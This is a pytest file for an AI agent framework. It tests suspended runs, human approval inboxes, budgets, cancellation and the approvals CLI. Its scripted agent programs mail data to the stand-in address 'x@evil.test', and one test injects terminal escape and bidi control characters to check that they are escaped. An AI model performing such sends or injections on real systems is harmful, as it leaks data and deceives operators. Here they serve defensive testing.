"""Durable runs inside one process: waiting inboxes, trace links, budgets carried over, the runs and approvals CLI."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from durable_tools import TOOLS, count

from proctor import CodeAgent, InboxApprover, Policy, RunStore, ScriptedModel
from proctor.cli import main
from proctor.errors import StoreError
from proctor.policy.approvers import os_account
from proctor.store import AnswerSeal, ApprovalAnswer, PendingApproval
from proctor.testing import SpanCapture

PROGRAM = "```py\nn = look(1)\nfinal_answer(send('x@evil.test', str(n)))\n```"


def _policy(**extra: Any) -> Policy:
    # The CLI answers as this OS account, `--as` the names the tests give (the policy's mapping allows it).
    mapping = {"os_users": {os_account(): {"as": ["alice", "bob", "carol"]}}}
    if "approval" in extra:
        extra = {**extra, "approval": {**mapping, **extra["approval"]}}
    return Policy.from_dict({
        "version": 1, "default": "deny", "approval": mapping, **extra,
        "rules": [{"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"},
                  {"name": "mail", "match": {"tool": "send"}, "decision": "require_approval", "reason": "human"}],
    })


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[RunStore, str, Path]]:
    monkeypatch.setenv("DURABLE_COUNTER", str(tmp_path / "effects.jsonl"))
    url = f"sqlite:///{tmp_path}/runs.db"
    store = RunStore.open(url)
    yield store, url, tmp_path
    store.close()


def _agent(store: RunStore, tmp: Path, responses: list[str], policy: Policy | None = None, wait: str = "0s",
           **kwargs: Any) -> CodeAgent:
    return CodeAgent(TOOLS, ScriptedModel(responses), policy or _policy(), approver=InboxApprover(store, wait=wait),
                     audit=str(tmp / "audit.jsonl"), store=store, sandbox="process", **kwargs)


def _sealed(tmp: Path, pending: PendingApproval, answer: ApprovalAnswer) -> ApprovalAnswer:
    """`answer` sealed as the inbox or the CLI seal it: with the key of the run's trail for answers."""
    return AnswerSeal.of_trail(str(tmp / "audit.jsonl")).sealed(pending, answer)


def _suspend(store: RunStore, tmp: Path, **kwargs: Any) -> str:
    with _agent(store, tmp, [PROGRAM], **kwargs) as agent:
        r = agent.run("mail it", principal="alice")
    assert r.status == "suspended" and len(r.pending) == 1
    return r.run_id


def test_an_answer_within_wait_moves_the_run_on_without_suspending(env: tuple[RunStore, str, Path]) -> None:
    """An inbox that waits gets an answer given meanwhile from another connection, and the run finishes."""
    store, url, tmp = env
    other = RunStore.open(url)

    def answer() -> None:
        for _ in range(600):
            pending = other.list_approvals()
            if pending:
                other.answer_approval(pending[0].id, _sealed(tmp, pending[0], ApprovalAnswer("approve", "bob")),
                                      binding=pending[0].binding)
                return
            time.sleep(0.05)

    t = threading.Thread(target=answer)
    t.start()
    with _agent(store, tmp, [PROGRAM], wait="60s", policy=_policy(approval={"timeout": "2m"})) as agent:
        r = agent.run("mail it", principal="alice")
    t.join()
    other.close()
    assert r.status == "done" and r.answer == "sent 10 to x@evil.test"
    assert store.get_run(r.run_id).status == "done"
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "send"]


def test_resumed_run_links_to_its_first_trace(env: tuple[RunStore, str, Path]) -> None:
    """The resumed run's invoke_agent span links to the span that started the run."""
    store, _, tmp = env
    capture = SpanCapture()
    with _agent(store, tmp, [PROGRAM], tracer=capture.tracer) as agent:
        first = agent.run("mail it", principal="alice")
        [pending] = store.list_approvals()
        store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")),
                              binding=pending.binding)
        second = agent.resume(first.run_id)
    assert second.status == "done" and second.trace_id != first.trace_id
    runs = capture.spans("invoke_agent")
    assert len(runs) == 2
    [link] = runs[1].links
    assert format(link.context.trace_id, "032x") == first.trace_id
    assert link.context.span_id == runs[0].context.span_id


def test_budgets_used_before_the_pause_still_count(env: tuple[RunStore, str, Path]) -> None:
    """Budget usage and variables of earlier steps come back on resume: the budget is not spent again."""
    store, _, tmp = env
    policy = _policy(budgets=[{"name": "one-look", "match": {"tool": "look"}, "limit": {"calls": 1}}])
    # Step 2 uses a variable of step 1: resuming re-runs step 1 (from its journal) to define it again.
    step2 = ("```py\nsend('x@evil.test', str(first))\ntry:\n    look(2)\nexcept BudgetExceeded as e:\n"
             "    final_answer(str(e))\n```")
    with _agent(store, tmp, ["```py\nfirst = look(1)\n```", step2], policy=policy) as agent:
        run_id = agent.run("go", principal="alice").run_id
    [pending] = store.list_approvals()
    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
    with _agent(store, tmp, [], policy=policy) as agent:
        r = agent.resume(run_id)
    assert r.status == "done" and "one-look" in r.answer
    assert [(c.tool, c.status, c.budget) for c in r.steps[-1].tool_calls] == [("send", "ok", None),
                                                                               ("look", "denied", "one-look")]
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "send"]


def test_a_shadow_decides_a_durable_runs_live_calls_and_counts_its_replayed_ones(
        env: tuple[RunStore, str, Path]) -> None:
    """A durable run's calls are decided by the shadow as any run's; on resume, a call answered from the journal
    is not decided again (it was when it first ran) but is counted in the shadow's budgets, as in the run's."""
    store, _, tmp = env
    candidate = Policy.from_dict({
        "version": 1, "default": "deny",
        "budgets": [{"name": "one-look", "match": {"tool": "look"}, "limit": {"calls": 1}}],
        "rules": [{"name": "no-mail", "match": {"tool": "send"}, "decision": "deny"},
                  {"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"}]})
    program = "```py\na = look(1)\nsend('x@evil.test', str(a))\nfinal_answer(look(2))\n```"

    def disagreements() -> list[tuple[str, str, str, str | None]]:
        lines = [json.loads(line) for line in (tmp / "audit.jsonl").read_text().splitlines()]
        return [(r["tool"], r["enforced"]["decision"], r["shadow"]["decision"], r["shadow"]["budget"])
                for r in lines if r["kind"] == "shadow_decision"]

    with _agent(store, tmp, [program], shadow=candidate) as agent:
        run_id = agent.run("go", principal="alice").run_id
    assert disagreements() == [("send", "require_approval", "deny", None)]
    [pending] = store.list_approvals()
    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
    with _agent(store, tmp, [], shadow=candidate) as agent:
        r = agent.resume(run_id)
    assert r.status == "done" and r.answer == 20
    # look(1) came from the journal: no second decision, but the candidate's one look is spent by it
    assert disagreements() == [("send", "require_approval", "deny", None), ("send", "require_approval", "deny", None),
                               ("look", "allow", "deny", "one-look")]


def test_a_cancelled_run_cannot_be_resumed(env: tuple[RunStore, str, Path]) -> None:
    """Cancelling voids the pending approval; resume then refuses and nothing runs."""
    store, url, tmp = env
    run_id = _suspend(store, tmp)
    assert main(["runs", "cancel", run_id, "--store", url, "--reason", "not needed"]) == 0
    assert store.list_approvals() == []
    with _agent(store, tmp, []) as agent, pytest.raises(StoreError, match="cancelled"):
        agent.resume(run_id)
    assert main(["runs", "cancel", run_id, "--store", url]) == 1
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look"]


def test_runs_list_and_show_say_what_a_run_waits_for(env: tuple[RunStore, str, Path],
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """`runs list --json` and `runs show --json` name the pending approval and the step's journal."""
    store, url, tmp = env
    run_id = _suspend(store, tmp)
    capsys.readouterr()
    assert main(["runs", "list", "--store", url, "--json"]) == 0
    [run] = json.loads(capsys.readouterr().out)
    assert run["run_id"] == run_id and run["status"] == "suspended" and run["principal"] == "alice"
    [waiting] = run["waiting_for"]
    assert waiting["tool"] == "send" and waiting["status"] == "pending"
    assert main(["runs", "show", run_id, "--store", url, "--json"]) == 0
    shown = json.loads(capsys.readouterr().out)
    # The call the run waits at is journaled too (issue 28): a resumed program must reach it there.
    assert [(e["tool"], e["state"], e["status"]) for e in shown["journal"]] == [("look", "done", "ok"),
                                                                                ("send", "suspended", None)]
    assert main(["runs", "list", "--store", url]) == 0
    assert run_id in capsys.readouterr().out


def test_approvals_cli_json_fields_and_refusals(env: tuple[RunStore, str, Path], capsys: pytest.CaptureFixture[str],
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """`approvals list --json` has the documented fields; four eyes, double answers and bad usage are refused."""
    store, url, tmp = env
    run_id = _suspend(store, tmp)
    capsys.readouterr()
    monkeypatch.setenv("PROCTOR_STORE", url)
    monkeypatch.setenv("PROCTOR_AUDIT", str(tmp / "audit.jsonl"))  # the run's trail: its key seals the answers
    assert main(["approvals", "list", "--json"]) == 0
    [item] = json.loads(capsys.readouterr().out)
    for key in ("id", "run_id", "tool", "args", "binding", "principal", "rules", "reason", "requested_at"):
        assert key in item
    assert item["run_id"] == run_id and item["args"] == {"to": "x@evil.test", "body": "10"}
    assert item["principal"] == "alice" and item["rules"] == ["mail"]
    assert main(["approvals", "approve", item["id"], "--as", "alice"]) == 1  # the run's own principal
    assert "four eyes" in capsys.readouterr().err
    assert main(["approvals", "deny", item["id"], "--as", "bob"]) == 2  # a deny needs a reason
    assert main(["approvals", "edit", item["id"], "--as", "bob", "--args", "[1]"]) == 2
    assert main(["approvals", "approve", item["id"], "--as", "bob"]) == 0
    assert main(["approvals", "approve", item["id"], "--as", "carol"]) == 1  # answered once only
    capsys.readouterr()
    assert main(["approvals", "show", item["id"], "--json"]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown["status"] == "answered" and shown["answer"]["approver"] == "bob"
    assert main(["approvals", "show", "apr_nope"]) == 1
    monkeypatch.delenv("PROCTOR_STORE")
    assert main(["approvals", "list"]) == 2


def test_redacted_arguments_stay_redacted_in_the_store_and_the_answer_still_binds(
        env: tuple[RunStore, str, Path]) -> None:
    """A redacted field is stored as its digest, and the answer given to it approves the resumed call."""
    store, _, tmp = env
    policy = _policy(tools={"send": {"side_effect": "external", "redact": ["body"]}})
    run_id = _suspend(store, tmp, policy=policy)
    [pending] = store.list_approvals()
    assert pending.args["to"] == "x@evil.test" and "$redacted" in pending.args["body"]
    assert '"10"' not in json.dumps(pending.as_dict()["args"])  # the clear value; its digest may hold "10"
    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
    with _agent(store, tmp, [], policy=policy) as agent:
        r = agent.resume(run_id)
    assert r.status == "done" and r.answer == "sent 10 to x@evil.test"
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "send"]


def test_runs_show_and_audit_show_print_a_suspended_run_then_its_end(
        env: tuple[RunStore, str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    """`runs show` (the store) and `audit show --run` (the log) print the step in progress, what it waits for,
    and after the resume every step to the end."""
    store, url, tmp = env
    run_id = _suspend(store, tmp)
    [pending] = store.list_approvals()
    assert main(["runs", "show", run_id, "--store", url]) == 0
    shown = capsys.readouterr().out
    for expected in ("[suspended]", "mail it", "step 1", "n = look(1)", "look(x=1)", "allow reads",
                     "step 1 is in progress", f"waiting for approval {pending.id} of send", "suspended"):
        assert expected in shown, (expected, shown)
    assert main(["audit", "show", str(tmp / "audit.jsonl"), "--run", run_id]) == 0
    logged = capsys.readouterr().out
    for expected in ("n = look(1)", "look(x=1)", "send(body='10', to='x@evil.test')", "require_approval mail",
                     f"run suspended at step 1: waiting for approval {pending.id}", "suspended"):
        assert expected in logged, (expected, logged)
    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
    with _agent(store, tmp, []) as agent:
        assert agent.resume(run_id).status == "done"
    assert main(["runs", "show", run_id, "--store", url]) == 0
    shown = capsys.readouterr().out
    assert "[done]" in shown and "approve by bob" in shown and "in progress" not in shown
    assert main(["audit", "show", str(tmp / "audit.jsonl"), "--run", run_id]) == 0
    logged = capsys.readouterr().out
    assert "run resumed at step 1" in logged and "answered from the journal" in logged
    assert "approve by bob" in logged and logged.rstrip().count("done") >= 1


def test_approvals_and_runs_commands_never_put_escape_sequences_on_the_terminal(
        env: tuple[RunStore, str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    """A task and arguments holding ESC and bidi controls are printed escaped by list, show and runs list."""
    store, url, tmp = env
    hostile = "\x1b[2J\x1b]0;owned\x07\u202e"
    step = f"```py\nn = look(1)\nfinal_answer(send('x@evil.test{hostile}', str(n)))\n```"
    with _agent(store, tmp, [step]) as agent:
        run_id = agent.run(f"mail it {hostile}", principal="alice").run_id
    [pending] = store.list_approvals()
    for command in (["approvals", "list"], ["approvals", "show", pending.id], ["runs", "list"],
                    ["runs", "show", run_id]):
        assert main([*command, "--store", url]) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, (command, out)
        assert "\\x1b" in out or "\\u001b" in out, (command, out)


def test_a_resume_that_cannot_go_on_runs_nothing_and_leaves_the_run_answerable(
        env: tuple[RunStore, str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 28: a resume whose model cannot load ran the approved call, then ended in `error` for good."""
    from proctor import LiteLLMModel

    store, _, tmp = env
    run_id = _suspend(store, tmp)
    [pending] = store.list_approvals()
    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
    monkeypatch.setitem(__import__("sys").modules, "litellm", None)  # litellm not installed
    broken = CodeAgent(TOOLS, LiteLLMModel("openai/gpt-4o-mini"), _policy(), approver=InboxApprover(store, wait="0s"),
                       audit=str(tmp / "audit.jsonl"), store=store, sandbox="process")
    with broken, pytest.raises(StoreError, match=r"cannot resume run .*litellm.*nothing ran, the run is still "
                                                 r"suspended"):
        broken.resume(run_id)
    assert store.get_run(run_id).status == "suspended"
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look"]  # the approved send did not run
    missing_tool = CodeAgent([t for t in TOOLS if t.name != "look"], ScriptedModel([]), _policy(),
                             approver=InboxApprover(store, wait="0s"), audit=str(tmp / "audit.jsonl"), store=store,
                             sandbox="process")
    with missing_tool, pytest.raises(StoreError, match="tools this agent does not have: look"):
        missing_tool.resume(run_id)
    monkeypatch.delitem(__import__("sys").modules, "litellm")
    with _agent(store, tmp, []) as agent:  # a later resume works
        r = agent.resume(run_id)
    assert r.status == "done"
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "send"]


def test_an_approval_deadline_holds_across_processes(env: tuple[RunStore, str, Path],
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 28: with `approval: {timeout: 2s}`, an answer 25 s later was accepted and the call ran."""
    from proctor.errors import ApprovalExpired

    store, url, tmp = env
    policy = _policy(approval={"timeout": "2s", "on_timeout": "deny"})
    with _agent(store, tmp, [PROGRAM], policy=policy) as agent:
        run_id = agent.run("mail it", principal="alice").run_id
    [pending] = store.list_approvals()
    assert pending.expires_at_ns is not None and pending.expires_at_ns - pending.requested_at_ns <= 2.1e9
    capsys.readouterr()
    assert main(["approvals", "list", "--store", url, "--json"]) == 0
    [listed] = json.loads(capsys.readouterr().out)
    assert listed["expires_at"] and listed["status"] == "pending"
    time.sleep(max(0.0, (pending.expires_at_ns - time.time_ns()) / 1e9) + 0.2)
    assert store.list_approvals() == []  # no longer pending: read as expired by whoever looks first
    [expired] = store.list_approvals(status="expired")
    assert expired.id == pending.id
    with pytest.raises(ApprovalExpired, match="expired at"):
        store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")),
                              binding=pending.binding)
    capsys.readouterr()
    assert main(["approvals", "approve", pending.id, "--store", url, "--as", "bob", "--audit",
                 str(tmp / "audit.jsonl")]) == 1
    err = capsys.readouterr().err
    assert "expired" in err and len(err.strip().splitlines()) == 1
    with _agent(store, tmp, ["```py\nfinal_answer('gave up')\n```"], policy=policy) as agent:
        r = agent.resume(run_id)
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look"]  # the send never ran
    [call] = [c for c in r.steps[0].tool_calls if c.tool == "send"]
    assert call.status == "denied" and call.error_type == "ApprovalTimeout"
    resolved = [json.loads(line) for line in (tmp / "audit.jsonl").read_text().splitlines()
                if json.loads(line)["kind"] == "approval_resolved"]
    assert resolved[-1]["verdict"] in ("timeout", "denied") and "expired" in resolved[-1]["reason"]


def test_a_cancel_that_lands_while_a_resume_claims_the_run_stands(env: tuple[RunStore, str, Path],
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """`proctor runs cancel` from another connection lands right after the resume took the run's claim (the
    cancel is made to land there): the run stays cancelled, the resume goes no further and nothing is sent."""
    from proctor.errors import RunCancelled

    store, url, tmp = env
    run_id = _suspend(store, tmp)
    [pending] = store.list_approvals()
    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
    other = RunStore.open(url)
    claim = store.claim_run

    def claim_then_cancelled(run: str, owner: str, lease_s: float = 60.0) -> bool:
        taken = claim(run, owner, lease_s)
        if taken and store.get_run(run).status == "suspended":
            other.cancel_run(run, "the operator changed their mind")
        return taken

    monkeypatch.setattr(store, "claim_run", claim_then_cancelled)
    with _agent(store, tmp, []) as agent, pytest.raises(RunCancelled, match="changed their mind"):
        agent.resume(run_id)
    other.close()
    assert store.get_run(run_id).status == "cancelled"
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look"]  # the send never ran


def test_a_grant_given_under_one_policy_answers_no_call_under_a_changed_one(env: tuple[RunStore, str, Path]) -> None:
    """bob grants `send` for the rest of the run; the run suspends at a note; it is resumed under a changed
    policy. The grant was an answer under the old policy: the next mail is asked about again, not sent."""
    store, _, tmp = env
    rules = [{"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"},
             {"name": "mail", "match": {"tool": "send"}, "decision": "require_approval"},
             {"name": "notes", "match": {"tool": "note"}, "decision": "require_approval"}]
    old = Policy.from_dict({"version": 1, "default": "deny", "rules": rules})
    new = Policy.from_dict({"version": 1, "default": "deny", "rules": rules, "approval": {"timeout": "10m"}})
    assert old.sha256 != new.sha256
    program = "```py\nsend('a@x.test', '1')\nnote('n')\nfinal_answer(send('b@x.test', '2'))\n```"

    def answer(verdict: str, **extra: Any) -> None:
        [pending] = store.list_approvals()
        store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer(verdict, "bob", **extra)),
                              binding=pending.binding)

    with _agent(store, tmp, [program], policy=old) as agent:
        run_id = agent.run("mail", principal="alice").run_id
    answer("grant", grant={"tool": "send", "args": {}})
    with _agent(store, tmp, [], policy=old) as agent:
        first = agent.resume(run_id)
        assert first.status == "suspended", first.error  # at the note: the grant was given under `old`
    with _agent(store, tmp, [], policy=new) as agent:  # the note's request is filed again under `new`
        assert agent.resume(run_id).status == "suspended"
    answer("approve")
    with _agent(store, tmp, [], policy=new) as agent:
        r = agent.resume(run_id)
    assert r.status == "suspended", (r.status, r.error)
    [pending] = store.list_approvals()
    assert pending.tool == "send" and pending.args["to"] == "b@x.test"
    assert [c for c in count(str(tmp / "effects.jsonl")) if c[0] == "send"] == [
        ["send", {"body": "1", "to": "a@x.test"}]]
